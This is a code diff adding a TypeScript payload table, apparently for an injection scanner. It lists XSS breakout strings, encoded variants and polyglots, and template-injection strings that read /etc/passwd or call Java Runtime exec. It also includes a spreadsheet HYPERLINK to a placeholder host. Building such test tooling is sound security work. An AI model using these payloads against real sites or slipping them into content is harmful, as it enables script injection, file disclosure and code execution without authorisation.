@@ -1,0 +1,58 @@
+/** What ends the words early, where a program puts them between marks of its own. */
+// biome-ignore-all lint/suspicious/noTemplateCurlyInString: these are the words of other languages.
+import type { Drafts } from './payload.ts'
+
+export const breakouts: Drafts = {
+  'out of an attribute or a string': [
+    '"><script>HIT</script>',
+    "'><script>HIT</script>",
+    '"><img src=x onerror=HIT>',
+    '" autofocus onfocus="HIT" x="',
+    "' autofocus onfocus='HIT' x='",
+    '` onmouseover=HIT x=`',
+    '</script><script>HIT</script>',
+    '"-HIT-"',
+    "'-HIT-'",
+    "\\'-HIT//",
+    '`-${HIT}-`',
+    '*/HIT/*',
+    '\nHIT\n',
+    '</style><img src=x onerror=HIT>',
+    '--><img src=x onerror=HIT><!--',
+    '\u2028HIT\u2029',
+    '&quot; onerror=HIT &quot;',
+    '%22%3E%3Cscript%3EHIT%3C/script%3E',
+    '\\u003cscript\\u003eHIT\\u003c/script\\u003e',
+    '\\x3cimg src=x onerror=HIT\\x3e',
+    '+ADw-script+AD4-HIT+ADw-/script+AD4-',
+  ],
+  'templates of pages': [
+    '{{constructor.constructor("HIT")()}}',
+    '{{ "a".sub.call.call({}["constructor"].getOwnPropertyDescriptor, 0).value }}',
+    '${HIT}',
+    '#{HIT}',
+    '<%= HIT %>',
+    '{% include "/etc/passwd" %}',
+    '{dangerouslySetInnerHTML: {__html: "<img src=x onerror=HIT>"}}',
+    '{"$$typeof":"Symbol(react.element)","type":"script","props":{"children":"HIT"}}',
+    '[[${T(java.lang.Runtime).getRuntime().exec("x")}]]',
+    '<div v-html="HIT" ng-app ng-init="HIT" x-data x-init="HIT">x</div>',
+  ],
+  'entities and encodings': [
+    '&lt;script&gt;HIT&lt;/script&gt;',
+    '&amp;lt;img src=x onerror=HIT&amp;gt;',
+    '&#60;script&#62;HIT&#60;/script&#62;',
+    '&#x3C;script&#x3E;HIT&#x3C;/script&#x3E;',
+    '&lt;img src=x onerror=HIT>',
+    '&NewLine;&Tab;&colon;&lpar;&sol;&lt',
+    '\uFF1Cscript\uFF1EHIT\uFF1C/script\uFF1E',
+    '\u02BAonfocus=HIT\u02BA',
+    '\u00BCscript\u00BEHIT\u00BC/script\u00BE',
+    '%253Cscript%253EHIT%253C/script%253E',
+  ],
+  polyglots: [
+    'jaVasCript:/*-/*`/*\\`/*\'/*"/**/(/* */oNcliCk=HIT )//%0D%0A//</stYle/</titLe/</teXtarEa/</scRipt/--!>\\x3csVg/<sVg/oNloAd=HIT//>\\x3e',
+    '"\'><svg/onload=HIT><!--${HIT}{{HIT}}*/;HIT//',
+    '--></style></script></title>]]>"\'><img src=x onerror=HIT>#eval("1")=HYPERLINK("https://HOST")',
+  ],
+}
